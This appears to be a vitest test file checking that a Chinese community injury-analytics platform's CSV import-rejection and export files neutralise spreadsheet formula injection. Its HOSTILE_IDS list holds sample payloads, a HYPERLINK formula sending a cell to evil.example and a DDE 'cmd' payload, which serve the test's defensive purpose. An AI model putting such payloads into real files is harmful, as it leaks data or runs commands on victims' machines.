
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toCsv } from '#analytics/export.ts';
import { createTestApp, ok, type TestApp } from '#tests/support/app.ts';
import { runScript } from '#tests/support/cli.ts';
import { FALL_AT_HOME } from '#tests/support/fixtures.ts';

/**
 * Files that open in spreadsheets (issue 9): every CSV the platform writes, read back with a real
 * CSV parser. A text cell that Excel would run as a formula (`=`, `+`, `-`, `@`, tab, CR first)
 * comes back with a leading `'`; Chinese text is intact; figures are numbers, negative ones too.
 */
let app: TestApp;
let directory: string;
let communityId: string;

beforeAll(async () => {
  app = await createTestApp();
  directory = mkdtempSync(join(tmpdir(), 'csv-files-'));
  const admin = await app.token({ role: 'ADMIN' });
  communityId = ok(
    await app.doors[1]!.execute('mutation($input: CreateCommunityInput!) { createCommunity(input: $input) { id } }', { input: { name: '表格西城社区', kind: 'STREET', regionCode: '371702002' } }, admin),
  ).createCommunity.id;
});
afterAll(async () => {
  rmSync(directory, { recursive: true, force: true });
  await app.close();
});


const HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', '+86-10-12345678', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A9)', '=西城街道'];

describe('the rejected rows of npm run import', () => {
  it("neutralises formula cells with a leading ', keeps Chinese, and opens as UTF-8 (BOM)", async () => {
    // Prepare: rows refused (an unknown cause), whose externalIds a spreadsheet would run as formulas
    const file = join(directory, 'hostile.csv');
    const header = 'externalId,occurredAt,cause,intent,place,activity,severity,deaths,injured,description';
    const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
    const rows = [...HOSTILE_IDS, '西城街道-001'].map((externalId) => `${quoted(externalId)},2024-05-01 14:30,METEOR,UNINTENTIONAL,HOME,HOUSEWORK,MINOR,0,1,厨房滑倒`);
    writeFileSync(file, `${[header, ...rows].join('\n')}\n`);

    // Act
    const result = await runScript('scripts/import.ts', [file, '--community', communityId], { cwd: directory });

    // Assess: read back with a real parser
    expect(result.code, result.stderr).toBe(0);
    const bytes = readFileSync(join(directory, 'hostile.rejected.csv'));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const report = parse(bytes, { bom: true, columns: true }) as Record<string, string>[];
    expect(report.map((line) => line.externalId)).toEqual([...HOSTILE_IDS.map((id) => `'${id}`), '西城街道-001']);
    expect(report.every((line) => line.field === 'cause' && line.communityId === communityId)).toBe(true);
    expect(report.map((line) => Number(line.row))).toEqual([1, 2, 3, 4, 5, 6]);
    // No cell of the file starts as a formula.
    for (const line of report) for (const cell of Object.values(line)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('bad ids in an import file', () => {
  it('a communityId cell of 3,000 characters is a rejected row (no such community), not a failed run', async () => {
    const file = join(directory, 'long-id.csv');
    const header = 'externalId,communityId,occurredAt,cause,intent,place,activity,severity,deaths,injured';
    writeFileSync(file, `${header}\nL-1,${'x'.repeat(3_000)},2024-05-01 14:30,FALL,UNINTENTIONAL,HOME,HOUSEWORK,MINOR,0,1\n`);
    const result = await runScript('scripts/import.ts', [file], { cwd: directory });
    expect(result.code, result.stderr.slice(-2000)).toBe(0);
    const report = parse(readFileSync(join(directory, 'long-id.rejected.csv')), { bom: true, columns: true }) as Record<string, string>[];
    expect(report.map((line) => [line.externalId, line.field, line.message])).toEqual([['L-1', 'communityId', 'no such community']]);
  });
});

describe('the analytics export (npm run export, aggregateExport)', () => {
  it('reads back with Chinese names and headers, and numbers — negative change percentages included — as numbers', async () => {
    const admin = await app.token({ role: 'ADMIN' });
    // Two incidents in 2009 against four in 2008: the export's change in percent is -50.
    const records = [2009, 2009, 2008, 2008, 2008, 2008].map((year, n) => ({
      externalId: `csv-${n}`,
      occurredAt: `${year}-0${n + 1}-10T09:00:00+08:00`,
      ...FALL_AT_HOME,
      activity: 'LEISURE',
      economicLoss: '100.00',
    }));
    const imported = await app.doors[1]!.execute(
      'mutation($c: ID!, $r: [IncidentImportRecord!]!) { importIncidents(communityId: $c, records: $r) { outcome } }',
      { c: communityId, r: records },
      admin,
    );
    expect(ok(imported).importIncidents.outcome).toBe('COMPLETED');
    const result = await runScript('scripts/export.ts', ['--region', '371702002', '--year', '2009', '--out', join(directory, 'export.csv')], { cwd: directory });
    expect(result.code, result.stderr).toBe(0);
    const text = readFileSync(join(directory, 'export.csv'), 'utf8');
    const rows = parse(text, { bom: true, relax_column_count: true }) as string[][];
    const cells = rows.flat();
    expect(cells).toContain('事故起数 Incidents');
    expect(cells.some((cell) => cell.includes('西城街道'))).toBe(true);
    // The region's own row: 2 incidents against 4 a year earlier, -50 % as a bare number.
    const byCause = rows.find((row) => row[0] === 'FALL');
    expect(byCause?.slice(2, 3)).toEqual(['2']);
    expect(byCause).toContain('-50');
    expect(text).toMatch(/,-50(,|\r\n)/);
    for (const cell of cells) if (/^[=+\-@\t\r]/.test(cell)) expect(Number.isFinite(Number(cell)), cell).toBe(true);
  });

  it("neutralises text cells the export's tables hold, and leaves figures alone", () => {
    const csv = toCsv([
      { title: '=1+1 标题', header: ['地区 Region', '同比% Change %'], rows: [['@SUM(A1)', -12.1], ['+86 电话', 0], ['-负数文本', -0.5], ['\t制表', null], ['\r回车', 3]] },
      { title: '第二表', rows: [['西城街道', '-50']] },
    ]);
    const rows = parse(csv, { bom: true, relax_column_count: true }) as string[][];
    expect(rows).toEqual([
      ["'=1+1 标题"],
      ['地区 Region', '同比% Change %'],
      ["'@SUM(A1)", '-12.1'],
      ["'+86 电话", '0'],
      ["'-负数文本", '-0.5'],
      ["'\t制表", ''],
      ["'\r回车", '3'],
      [''],
      ['第二表'],
      // A figure given as text is text: numeric columns are given numbers (csv.ts).
      ['西城街道', "'-50"],
    ]);
  });
});
